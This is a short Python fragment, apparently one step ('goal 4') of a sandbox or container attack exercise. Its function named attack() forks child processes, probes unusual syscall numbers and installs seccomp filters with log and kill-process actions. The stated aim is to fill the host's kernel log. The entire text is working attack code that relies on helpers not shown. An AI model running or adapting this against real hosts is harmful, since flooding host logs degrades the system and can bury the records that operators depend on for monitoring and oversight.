# goal 4: fill the host's log, which tells of each process that a filter kills, and of each call it is told to tell of
def filtered(answer):
    "One of our own."
    program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, answer))
    return libc_checked(libc.prctl(22, 2, struct.pack("HxxxxxxQ", 1, ctypes.addressof(program)), 0, 0))


def attack():
    import platform

    numbers = (0x3FFFFFFF, 0xFFFFFFFE, *((0x40000000, 0x40000000 + 59) if platform.machine() == "x86_64" else ()))
    for n in numbers:
        pid = os.fork()
        if pid == 0:
            no_error(lambda n=n: number(n, 0, 0, 0))
            os._exit(0)
        if os.waitpid(pid, 0)[1] != 0:
            return n
    return first(
        lambda: child(lambda: filtered(0x7FFC0000)),
        lambda: child(lambda: filtered(0x80000000)),
        lambda: child(lambda: libc_checked(libc.prctl(22, 1, 0, 0, 0))),
        lambda: child(lambda: call("seccomp", 1, 2, bytes(16))),
    )
